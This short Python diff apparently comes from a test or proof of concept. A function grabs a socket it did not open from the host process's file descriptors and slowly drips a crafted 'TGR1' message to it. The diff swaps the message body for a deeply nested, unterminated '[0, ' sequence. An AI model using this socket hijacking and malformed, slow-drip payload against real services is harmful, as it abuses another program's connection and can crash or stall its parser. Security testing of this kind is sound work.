@@ -14,6 +14,6 @@ def is_socket(fd):
 
 def outer(x, y):
     connection = socket.socket(fileno=next(fd for fd in range(3, 128) if is_socket(fd)))
-    for byte in b"TGR1" + bytes(12) + b"{}" * 1000:
+    for byte in b"TGR1" + (2000).to_bytes(4, "big") + bytes(8) + b"[0, " * 500:
         connection.send(bytes([byte]))
         time.sleep(0.05)
